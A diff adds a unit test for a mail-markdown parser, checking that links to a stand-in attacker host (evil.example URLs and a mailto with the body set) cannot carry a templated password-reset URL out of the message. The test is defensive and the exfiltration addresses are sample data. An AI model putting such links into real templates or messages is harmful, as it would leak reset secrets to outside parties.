@@ -99,6 +99,13 @@ describe('a named field', () => {
     ]);
   });
 
+  test('that is an address takes its secrets to no other place', () => {
+    const own = { url: 'https://a.example/reset/secret' };
+    for (const address of ['https://evil.example/?{{url}}', 'mailto:a@evil.example?body={{url}}'])
+      for (const link of [`[Open](${address})`, `[Open][1]\n\n[1]: ${address}`])
+        expect(parseMailMarkdown(link, own)).toEqual([paragraph(words('Open'))]);
+  });
+
   test('that stands alone brings its blocks', () => {
     const facts: Block = { kind: 'facts', rows: [['Reference', 'TT-1']] };
     expect(parseMailMarkdown('{{facts}}', { facts: { blocks: [facts] } })).toEqual([facts]);
